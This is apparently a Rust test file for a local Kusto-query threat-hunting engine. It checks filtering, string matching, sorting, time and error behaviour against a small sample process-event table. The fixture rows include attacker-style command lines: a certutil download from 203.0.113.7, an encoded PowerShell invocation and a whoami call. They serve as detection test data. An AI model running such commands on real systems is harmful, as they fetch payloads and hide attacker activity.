//! The local engine's first operators against a small hand-made table, with expected
//! answers written from Kusto's documented behaviour (learn.microsoft.com/kusto/query:
//! where-operator, project-operator, take-operator, sort-operator, count-operator,
//! datatypes-string-operators, in-cs-operator, ago-function).

use kqlhunt::data::column::column_from_values;
use kqlhunt::data::time::{TICKS_PER_DAY, TICKS_PER_HOUR};
use kqlhunt::data::{Column, Kind, Table, Value, ValueRef};
use kqlhunt::engine::{Catalog, ErrorKind, ExecContext, execute};

const NOW: i64 = 20_000 * TICKS_PER_DAY;

fn strings(v: &[&str]) -> Vec<Value> {
    v.iter().map(|s| Value::String(s.to_string())).collect()
}

fn catalog() -> Catalog {
    let t = Table::new(vec![
        Column::new(
            "Timestamp",
            column_from_values(
                Kind::DateTime,
                [1, 30, 50, 2, 200].map(|h| Value::DateTime(NOW - h * TICKS_PER_HOUR)),
            ),
        ),
        Column::new(
            "FileName",
            column_from_values(
                Kind::String,
                strings(&[
                    "powershell.exe",
                    "PowerShell.EXE",
                    "cmd.exe",
                    "certutil.exe",
                    "pwsh.exe",
                ]),
            ),
        ),
        Column::new(
            "ProcessCommandLine",
            column_from_values(
                Kind::String,
                strings(&[
                    "powershell.exe -nop -enc SQBFAFgA",
                    "PowerShell.EXE -File C:\\scripts\\inventory.ps1",
                    "cmd.exe /c whoami",
                    "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe",
                    "pwsh.exe -Command Get-Date",
                ]),
            ),
        ),
        Column::new(
            "ProcessId",
            column_from_values(
                Kind::Long,
                [
                    Value::Long(10),
                    Value::Long(20),
                    Value::Null,
                    Value::Long(5),
                    Value::Long(7),
                ],
            ),
        ),
    ])
    .unwrap();
    Catalog::from_tables([("DeviceProcessEvents".to_string(), t)])
}

fn run(q: &str) -> Table {
    let ctx = ExecContext {
        now: NOW,
        ..Default::default()
    };
    execute(&catalog(), q, &ctx)
        .unwrap_or_else(|e| panic!("{q}: {e:?}"))
        .table
}

fn column_strings(t: &Table, name: &str) -> Vec<String> {
    let c = t.column(name).unwrap();
    (0..t.row_count())
        .map(|r| kqlhunt::data::format::plain_text(c.data.get(r)).into_owned())
        .collect()
}

fn err(q: &str) -> (ErrorKind, String) {
    let ctx = ExecContext {
        now: NOW,
        ..Default::default()
    };
    let e = execute(&catalog(), q, &ctx).unwrap_err();
    (e.kind, e.message)
}

#[test]
fn case_insensitive_equality_and_its_negation() {
    let t = run(r#"DeviceProcessEvents | where FileName =~ "POWERSHELL.exe""#);
    assert_eq!(
        column_strings(&t, "FileName"),
        ["powershell.exe", "PowerShell.EXE"]
    );
    let t = run(r#"DeviceProcessEvents | where FileName !~ "powershell.exe""#);
    assert_eq!(t.row_count(), 3);
    let t = run(r#"DeviceProcessEvents | where FileName == "powershell.exe""#);
    assert_eq!(t.row_count(), 1);
    let t = run(r#"DeviceProcessEvents | where FileName != "powershell.exe""#);
    assert_eq!(t.row_count(), 4);
}

#[test]
fn string_operators_follow_kusto() {
    // has: whole terms; "enc" is not a term of "-enc"? It is: '-' is a separator.
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine has "enc""#).row_count(),
        1
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine has "urlcach""#).row_count(),
        0
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine contains "urlcach""#).row_count(),
        1
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine has_cs "WHOAMI""#).row_count(),
        0
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine has "WHOAMI""#).row_count(),
        1
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName startswith "power""#).row_count(),
        2
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName startswith_cs "power""#).row_count(),
        1
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName endswith ".EXE""#).row_count(),
        5
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName endswith_cs ".EXE""#).row_count(),
        1
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName !contains "shell""#).row_count(),
        3
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine !has "exe""#).row_count(),
        0
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where ProcessCommandLine contains_cs "Get-Date""#).row_count(),
        1
    );
}

#[test]
fn in_and_logic() {
    let t = run(r#"DeviceProcessEvents | where FileName in ("cmd.exe", "pwsh.exe")"#);
    assert_eq!(column_strings(&t, "FileName"), ["cmd.exe", "pwsh.exe"]);
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName !in ("cmd.exe", "pwsh.exe")"#).row_count(),
        3
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName in~ ("POWERSHELL.EXE")"#).row_count(),
        2
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where FileName =~ "powershell.exe" and ProcessCommandLine has "enc" or FileName == "cmd.exe""#)
            .row_count(),
        2
    );
    assert_eq!(
        run(r#"DeviceProcessEvents | where not(FileName has "exe")"#).row_count(),
        0
    );
}

#[test]
fn comparisons_with_nulls_and_time() {
    // A null ProcessId is neither > nor <= anything: where drops it both ways.
    assert_eq!(
        run("DeviceProcessEvents | where ProcessId > 6").row_count(),
        3
    );
    assert_eq!(
        run("DeviceProcessEvents | where ProcessId <= 6").row_count(),
        1
    );
    assert_eq!(
        run("DeviceProcessEvents | where Timestamp > ago(1d)").row_count(),
        2
    );
    assert_eq!(
        run("DeviceProcessEvents | where Timestamp between (ago(3d) .. now())").row_count(),
        4
    );
    assert_eq!(
        run("DeviceProcessEvents | where Timestamp < now() - 2d").row_count(),
        2
    );
}

#[test]
fn project_take_sort_count() {
    let t = run("DeviceProcessEvents | project FileName, Pid = ProcessId | take 2");
    assert_eq!(
        t.columns()
            .iter()
            .map(|c| c.name.as_str())
            .collect::<Vec<_>>(),
        ["FileName", "Pid"]
    );
    assert_eq!(t.row_count(), 2);
    // sort defaults to descending; nulls go last when descending.
    let t = run("DeviceProcessEvents | sort by ProcessId | project ProcessId");
    assert_eq!(column_strings(&t, "ProcessId"), ["20", "10", "7", "5", ""]);
    let t = run("DeviceProcessEvents | order by ProcessId asc | project ProcessId");
    assert_eq!(column_strings(&t, "ProcessId"), ["", "5", "7", "10", "20"]);
    let t = run("DeviceProcessEvents | where FileName has \"exe\" | count");
    assert_eq!(t.cell(0, 0), ValueRef::Long(5));
    assert_eq!(run("DeviceProcessEvents | limit 3").row_count(), 3);
    let t = run("DeviceProcessEvents | extend Len = strlen(FileName) | top 1 by Len");
    assert_eq!(column_strings(&t, "FileName"), ["powershell.exe"]);
}

#[test]
fn errors_are_clear_and_never_a_wrong_answer() {
    let (kind, msg) = err("DeviceProcessEvents | evaluate autocluster()");
    assert_eq!(kind, ErrorKind::Unsupported);
    assert_eq!(msg, "evaluate autocluster()");
    let (kind, msg) = err("DeviceProcessEvents | where filename == 'x'");
    assert_eq!(kind, ErrorKind::Semantic);
    assert!(msg.contains("did you mean 'FileName'"), "{msg}");
    let (kind, msg) = err("deviceprocessevents | take 1");
    assert_eq!(kind, ErrorKind::Semantic);
    assert!(msg.contains("DeviceProcessEvents"), "{msg}");
    let (kind, _) = err("DeviceProcessEvents | where FileName ==");
    assert_eq!(kind, ErrorKind::Syntax);
    let (kind, msg) =
        err("DeviceProcessEvents | where tostring(parse_user_agent(FileName, 'browser')) == 'x'");
    assert_eq!(kind, ErrorKind::Unsupported);
    assert!(msg.contains("parse_user_agent"), "{msg}");
}

#[test]
fn cancellation_stops_a_query() {
    let ctx = ExecContext {
        now: NOW,
        ..Default::default()
    };
    ctx.cancel.cancel();
    let e = execute(
        &catalog(),
        "DeviceProcessEvents | where FileName has 'x'",
        &ctx,
    )
    .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Cancelled);
}
